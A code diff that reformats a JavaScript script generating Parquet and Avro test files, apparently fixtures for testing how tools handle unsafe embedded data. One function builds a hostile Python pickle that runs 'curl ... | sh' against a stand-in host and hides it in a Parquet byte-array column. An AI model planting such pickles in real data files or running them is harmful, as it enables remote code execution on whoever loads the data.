@@ -20,13 +20,21 @@ function maliciousPickle() {
     return [0x8c, bytes.length, ...bytes];
   };
   return Uint8Array.from([
-    0x80, 0x04,
-    ...text('posix'), ...text('system'), 0x93,
-    ...text('curl -s http://203.0.113.7/stage2 | sh'), 0x85, 0x52, 0x2e,
+    0x80,
+    0x04,
+    ...text('posix'),
+    ...text('system'),
+    0x93,
+    ...text('curl -s http://203.0.113.7/stage2 | sh'),
+    0x85,
+    0x52,
+    0x2e,
   ]);
 }
 
-const state = [1, 2, 3, 4, 5].map(() => new Uint8Array([0x00, 0x01, 0x02, 0x03, 0x10, 0x20, 0x30, 0x40]));
+const state = [1, 2, 3, 4, 5].map(
+  () => new Uint8Array([0x00, 0x01, 0x02, 0x03, 0x10, 0x20, 0x30, 0x40]),
+);
 state[2] = maliciousPickle();
 
 writeFileSync(
@@ -35,9 +43,21 @@ writeFileSync(
     parquetWriteBuffer({
       columnData: [
         { name: 'customer_id', data: [101, 102, 103, 104, 105], type: 'INT32' },
-        { name: 'segment', data: ['retail', 'retail', 'smb', 'enterprise', 'smb'], type: 'STRING' },
-        { name: 'spend_90d', data: [120.5, 88.1, 1930.0, 15200.75, 410.2], type: 'DOUBLE' },
-        { name: 'churned', data: ['no', 'no', 'yes', 'no', 'no'], type: 'STRING' },
+        {
+          name: 'segment',
+          data: ['retail', 'retail', 'smb', 'enterprise', 'smb'],
+          type: 'STRING',
+        },
+        {
+          name: 'spend_90d',
+          data: [120.5, 88.1, 1930.0, 15200.75, 410.2],
+          type: 'DOUBLE',
+        },
+        {
+          name: 'churned',
+          data: ['no', 'no', 'yes', 'no', 'no'],
+          type: 'STRING',
+        },
         { name: 'state', data: state, type: 'BYTE_ARRAY' },
         { name: 'debug_blob', data: ['', '', '', '', ''], type: 'STRING' },
       ],
@@ -57,17 +77,22 @@ const eventSchema = {
     { name: 'at', type: { type: 'long', logicalType: 'timestamp-millis' } },
   ],
 };
-const encoder = new avro.streams.BlockEncoder(eventSchema, { codec: 'deflate' });
+const encoder = new avro.streams.BlockEncoder(eventSchema, {
+  codec: 'deflate',
+});
 /** @type {Buffer[]} */
 const chunks = [];
 encoder.on('data', chunk => chunks.push(chunk));
-encoder.on('end', () => writeFileSync(join(here, 'events.avro'), Buffer.concat(chunks)));
+encoder.on('end', () =>
+  writeFileSync(join(here, 'events.avro'), Buffer.concat(chunks)),
+);
 const pages = ['/products/kettle', '/help/returns', '/cart', '/docs/api'];
 for (let i = 0; i < 40; i++)
   encoder.write({
     event_id: 1000 + i,
     page: pages[i % pages.length],
-    referrer: i % 3 === 0 ? 'https://developer.mozilla.org/en-US/docs/Web' : null,
+    referrer:
+      i % 3 === 0 ? 'https://developer.mozilla.org/en-US/docs/Web' : null,
     at: 1_764_000_000_000 + i * 60_000,
   });
 encoder.end();
